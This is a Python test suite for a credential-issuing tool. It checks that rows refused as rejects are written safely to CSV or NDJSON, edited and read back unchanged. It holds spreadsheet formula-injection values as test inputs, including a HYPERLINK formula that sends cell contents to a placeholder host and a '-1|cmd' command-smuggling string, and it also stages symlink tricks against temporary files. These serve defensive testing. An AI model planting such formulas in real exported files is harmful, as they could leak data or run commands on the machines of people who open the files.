"""Refused rows as a table that is opened in a spreadsheet, mended and handed in again."""

import csv
import io
from collections.abc import Iterable
from pathlib import Path
from tempfile import TemporaryDirectory

import pytest
from hypothesis import given as drawn
from hypothesis import strategies as st

from node.client.errors import Unusable
from node.client.issue_journal import Journal
from node.client.issue_outputs import journal_path
from node.client.issue_plan import Plan
from node.client.issue_rejects import Reject, Rejects, without_marks
from node.client.issuer import Issuer
from node.client.learner_rows import LearnerRow, read_rows
from node.client.status_list_record import load_record
from node.client.status_lists import create
from tests.node.client.issuing import Issue, bad_row, lines
from tests.node.client.learners import rows

pytestmark = pytest.mark.enable_socket

BEGINNINGS = tuple("=+-@\t\r\n")
TEXTS = st.text(st.sampled_from("'=+-@;,\t\r\n\"a1. "), max_size=6)


def refused(path: Path, *members: dict[str, object]) -> Path:
    with Rejects(path, run="ab" * 16) as rejects:
        rejects.write(Reject(number, "", "=1+1", one) for number, one in enumerate(members, 2))
    return path


def read_again(path: Path) -> list[dict[str, object]]:
    rows = list(read_rows(path, standard_input=io.BytesIO()))
    assert [row.fault for row in rows] == [""] * len(rows)
    return [dict(without_marks(row.members)) for row in rows]


@pytest.mark.parametrize("name", ["rejects.csv", "rejects.ndjson"])
@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x.invalid/"&A2)',
        "+37060000000",
        "@SUM(A1)",
        "-1+1",
        "-1|cmd",
        "\t=1",
        "\r=1",
        "'=1",
        "''=1",
        "'t Hooft",
        "-4.5",
        "'-4.5",
        "- nothing",
        "a;=1",
        'a","=1',
    ],
)
def test_a_text_is_handed_in_again_as_it_was(tmp_path: Path, name: str, text: str) -> None:
    path = refused(tmp_path / name, {"subject": text, f"={text.strip()}": "x"})
    assert read_again(path) == [{"subject": text, f"={text.strip()}": "x"}]


@drawn(st.lists(TEXTS, min_size=1, max_size=5))
def test_no_cell_is_a_formula_and_each_is_read_as_it_was(texts: list[str]) -> None:
    members: list[dict[str, object]] = [{"subject": text, "end": "."} for text in texts]
    with TemporaryDirectory() as folder:
        path = refused(Path(folder, "rejects.csv"), *members)
        with path.open(encoding="utf-8", newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert not any(cell.startswith(BEGINNINGS) and not cell[1:].isdigit() for cell in cells)
        again = read_again(path)
    for one, text in zip(again, texts, strict=True):
        assert one.get("subject", "") in {text, text.strip() and text}  # a cell of white space is none


def test_every_cell_is_quoted_and_negative_numbers_stay_numbers(tmp_path: Path) -> None:
    path = refused(tmp_path / "rejects.csv", {"grade": "-4,5", "ects": -3, "note": None, "list": [1]})
    assert path.read_text().splitlines() == [
        '"reject_line","reject_field","reject_reason","grade","ects","note","list"',
        """"2","","'=1+1","-4,5","-3","","[1]\"""",
    ]


def test_a_formula_that_is_no_refused_rows_own_is_left_to_its_file() -> None:
    members = {"subject": "'=1"}
    assert without_marks(members) is members


@pytest.mark.usefixtures("small_chunks")
def test_bad_rows_go_aside_with_line_field_and_reason_and_the_rest_goes_on(
    issuer: Issuer, issue: Issue, plan: Plan
) -> None:
    create(issuer, "aside")
    given = [*rows(5), bad_row(7), LearnerRow(8, {}, "not strict JSON"), *rows(2, start=5)]
    outcome = issue(given, lists=("aside",))
    assert (outcome.issued, outcome.refused) == (7, 2)
    header, first, second = plan.rejects.read_text().splitlines()
    assert header == '"reject_line","reject_field","reject_reason","subject","family_name"'
    assert first.startswith('"7","subject",')
    assert first.endswith(',"nobody","Nobody"')
    assert second == '"8","","not strict JSON","",""'
    assert plan.rejects.stat().st_mode & 0o777 == 0o600
    record = load_record(issuer.folder, "aside")
    assert (record.allotted.count(), dict(record.reserved)) == (7, {})

    text = plan.rejects.read_text().replace("nobody", given[0].members["subject"])
    plan.rejects.write_text("\n".join(text.splitlines()[:2]) + "\n")
    mended = issue(read_rows(plan.rejects, standard_input=None), lists=("aside",))  # type: ignore[arg-type]
    assert (mended.issued, mended.refused, mended.total) == (1, 0, 8)
    assert not plan.rejects.exists()


def test_rejects_in_ndjson_are_handed_in_again_as_they_are(issue: Issue, tmp_path: Path) -> None:
    path = tmp_path / "rejects.ndjson"
    assert issue([bad_row(2), *rows(1)], rejects=path).refused == 1
    (one,) = lines(path)
    assert (one["reject_line"], one["reject_field"], one["family_name"]) == (2, "subject", "Nobody")
    outcome = issue(read_rows(path, standard_input=None), rejects=path)  # type: ignore[arg-type]
    assert (outcome.refused, lines(path)[0]["reject_field"]) == (1, "subject")


def test_a_file_that_holds_something_else_is_never_taken_for_refused_rows(
    issue: Issue, plan: Plan, tmp_path: Path
) -> None:
    table, link, empty = tmp_path / "learners.csv", tmp_path / "link.csv", tmp_path / "empty.csv"
    table.write_text("subject,family_name\n")
    ours = tmp_path / "ours.csv"
    ours.write_text("reject_line,reject_field,reject_reason\n")
    link.symlink_to(ours)
    empty.touch()
    for path in (table, link, empty, tmp_path, plan.out, journal_path(plan.out)):
        for given in (rows(1), [bad_row(2)]):
            with pytest.raises(Unusable, match="--rejects"):
                issue(given, rejects=path)
    with pytest.raises(Unusable, match="another use"):
        issue(rows(1), rejects=tmp_path / "." / "ours.csv", rows=ours)
    assert not plan.out.exists()
    assert (table.read_text(), link.is_symlink()) == ("subject,family_name\n", True)
    issue(rows(1), rejects=ours)
    assert not ours.exists()


def test_a_file_that_takes_the_name_of_refused_rows_meanwhile_stays(issue: Issue, plan: Plan) -> None:
    def given() -> Iterable[LearnerRow]:
        yield bad_row(2)
        plan.rejects.write_text("kept")

    with pytest.raises(Unusable, match="stays as it is"):
        issue(given())
    assert plan.rejects.read_text() == "kept"
    assert sorted(path.name for path in plan.rejects.parent.glob(".*.tmp")) == []


def test_what_was_left_of_refused_rows_by_a_run_that_was_cut_off_is_no_way_in(
    issue: Issue, plan: Plan, tmp_path: Path
) -> None:
    issue(rows(1))
    (kept := tmp_path / "kept").write_text("kept")
    with Journal(journal_path(plan.out), header=plan.header()) as journal:
        run = journal.header.run
    (tmp_path / f".rejects.csv.{run}.tmp").symlink_to(kept)
    left = tmp_path / f".rejects.csv.{run}.csv.tmp"
    left.touch()
    left.chmod(0o644)
    assert issue([bad_row(2)]).refused == 1
    assert (kept.read_text(), plan.rejects.stat().st_mode & 0o777) == ("kept", 0o600)
    assert list(tmp_path.glob(".*.tmp")) == []
